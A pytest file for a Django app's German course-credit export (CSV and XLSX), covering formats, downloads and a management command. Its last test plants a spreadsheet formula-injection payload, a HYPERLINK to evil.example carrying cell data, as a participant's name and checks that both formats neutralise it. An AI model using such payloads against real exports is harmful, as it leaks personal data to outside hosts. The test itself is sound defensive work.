# ruff: noqa: F811  (pytest fixtures imported from transcript_fixtures, used as arguments)
"""The EMPA credit record: XLSX and CSV with German headers, grades and dates, read back with
openpyxl and the csv module; the staff downloads and ``kohorte manage export_credits``."""

import csv
import io
from datetime import date, datetime

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kohorte.assessments.export import HEADERS, credits_csv, credits_xlsx
from kohorte.assessments.models import Submission
from tests.assessments.transcript_fixtures import graded  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

PUBLISHED = datetime(2027, 4, 20, 10, 0, tzinfo=timezone.get_default_timezone())


@pytest.fixture
def small(graded):
    """Only Tara (1,3 and bestanden) and Paula01 (1,0 and bestanden), published on 20.4.2027."""
    keep = [p.pk for p in graded["participants"][:2]]
    Submission.objects.exclude(participation__in=keep).delete()
    Submission.objects.update(published_at=PUBLISHED)
    return graded


def _expected(graded):
    graded_title = graded["graded_run"].module.title_de
    pf_title = graded["pf_run"].module.title_de
    program = graded["cohort"].program.title_de
    return [
        [
            "Probe",
            "Paula01",
            "p01@bund.example",
            "",
            program,
            "2. Jahrgang 2027",
            "1",
            graded_title,
            "3",
            "ja",
            "1,0",
            "ja",
            "1",
            "20.04.2027",
            "Dora Dozentin",
        ],
        [
            "Probe",
            "Paula01",
            "p01@bund.example",
            "",
            program,
            "2. Jahrgang 2027",
            "2",
            pf_title,
            "3",
            "ja",
            "bestanden",
            "ja",
            "1",
            "20.04.2027",
            "",
        ],
        [
            "Teil",
            "Tara",
            "tara@bund.example",
            "",
            program,
            "2. Jahrgang 2027",
            "1",
            graded_title,
            "3",
            "ja",
            "1,3",
            "ja",
            "1",
            "20.04.2027",
            "Dora Dozentin",
        ],
        [
            "Teil",
            "Tara",
            "tara@bund.example",
            "",
            program,
            "2. Jahrgang 2027",
            "2",
            pf_title,
            "3",
            "ja",
            "bestanden",
            "ja",
            "1",
            "20.04.2027",
            "",
        ],
    ]


def test_csv_is_utf8_with_bom_semicolons_and_german_formats(small):
    data = credits_csv(small["cohort"])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADERS
    assert rows[0][-1] == "Prüfer:innen"
    assert rows[1:] == _expected(small)


def test_xlsx_reads_back_with_typed_cells(small):
    sheet = load_workbook(io.BytesIO(credits_xlsx(small["cohort"]))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    expected = []
    for row in _expected(small):
        row = list(row)
        row[3] = None
        row[6] = int(row[6])
        row[8] = 3
        row[12] = int(row[12])
        row[13] = datetime(2027, 4, 20)  # noqa: DTZ001 (openpyxl reads dates naive)
        row[14] = row[14] or None
        expected.append(row)
    assert [list(r) for r in rows[1:]] == expected
    assert sheet["N2"].number_format == "DD.MM.YYYY"
    assert sheet.title == "Anrechnung"


def test_staff_downloads_both_formats(client, small, team):
    client.force_login(team)
    kwargs = {"cohort_id": small["cohort"].pk}
    response = client.get(reverse("transcripts:export_csv", kwargs=kwargs))
    assert response["Content-Disposition"] == 'attachment; filename="anrechnung-jahrgang-2.csv"'
    assert response.content == credits_csv(small["cohort"])
    response = client.get(reverse("transcripts:export_xlsx", kwargs=kwargs))
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 5


def test_export_credits_command_writes_csv_and_xlsx(small, tmp_path):
    target = tmp_path / "anrechnung.csv"
    out = io.StringIO()
    call_command("export_credits", "jahrgang-2", "--format", "csv", "-o", str(target), stdout=out)
    assert out.getvalue() == f"Wrote {target} ({target.stat().st_size} bytes).\n"
    rows = list(csv.reader(io.StringIO(target.read_text("utf-8-sig")), delimiter=";"))
    assert rows == [HEADERS, *_expected(small)]
    xlsx = tmp_path / "a.xlsx"
    call_command("export_credits", "jahrgang-2", "-o", str(xlsx), stdout=io.StringIO())
    sheet = load_workbook(xlsx).active
    assert [c.value for c in sheet[2]][:3] == ["Probe", "Paula01", "p01@bund.example"]


def test_export_credits_command_names_known_cohorts(demo_catalog):
    with pytest.raises(CommandError) as error:
        call_command("export_credits", "gibt-es-nicht")
    assert "No cohort with the slug 'gibt-es-nicht'. Known: " in str(error.value)
    assert "jahrgang-2" in str(error.value)


def test_resit_counts_with_its_attempt_and_a_failed_module_says_so(small):
    tara = small["participants"][0]
    Submission.objects.filter(participation=tara, assessment=small["graded"]).update(grade="5.0")
    rows = list(
        csv.reader(io.StringIO(credits_csv(small["cohort"]).decode("utf-8-sig")), delimiter=";")
    )
    tara_graded = next(r for r in rows if r[1] == "Tara" and r[6] == "1")
    assert (tara_graded[10], tara_graded[11], tara_graded[12]) == ("5,0", "nein", "1")
    assert date(2027, 4, 20).strftime("%d.%m.%Y") == tara_graded[13]


def test_names_that_a_spreadsheet_would_run_are_neutralised_in_csv_and_xlsx(small):
    """A participant may name herself ``=HYPERLINK(...)``: neither file may hand it to Excel
    as a formula (CSV: a leading apostrophe; XLSX: a text cell, not a formula cell)."""
    tara = small["participants"][0].user
    tara.first_name = '=HYPERLINK("https://evil.example/?x="&C2;"Klick")'
    tara.last_name = "@SUM(1+1)"
    tara.save()
    rows = list(
        csv.reader(io.StringIO(credits_csv(small["cohort"]).decode("utf-8-sig")), delimiter=";")
    )
    tara_rows = [r for r in rows if r[2] == "tara@bund.example"]
    assert len(tara_rows) == 2
    for row in tara_rows:
        assert row[0] == "'@SUM(1+1)"
        assert row[1] == '\'=HYPERLINK("https://evil.example/?x="&C2;"Klick")'
    sheet = load_workbook(io.BytesIO(credits_xlsx(small["cohort"]))).active
    cells = [row for row in sheet.iter_rows(min_row=2) if row[2].value == "tara@bund.example"]
    assert len(cells) == 2
    for row in cells:
        assert (row[0].data_type, row[1].data_type) == ("s", "s")
        assert row[0].value == "'@SUM(1+1)"
        assert row[1].value == '\'=HYPERLINK("https://evil.example/?x="&C2;"Klick")'
